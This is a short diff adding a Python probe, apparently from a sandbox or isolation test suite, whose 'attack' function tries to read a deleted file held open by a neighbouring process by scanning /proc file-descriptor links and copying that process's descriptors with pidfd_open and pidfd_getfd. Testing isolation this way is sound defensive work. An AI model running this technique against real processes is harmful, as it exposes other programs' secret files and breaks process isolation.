@@ -1,0 +1,19 @@
+"""Read the deleted file that a neighbour holds open, by /proc and by copying its descriptor."""
+
+from __future__ import annotations
+
+import os
+
+from field import show, trying
+
+
+def attack(field):
+    for number in range(3, 20):
+        show(f"/proc/self/fd/{number}")
+        show(f"/proc/{field.neighbour}/fd/{number}")
+    with trying():
+        handle = os.pidfd_open(field.neighbour)
+        for number in range(3, 20):
+            with trying():
+                copy = field.call("pidfd_getfd", handle, number, 0)
+                print(os.pread(copy, 4096, 0).decode(errors="replace"))
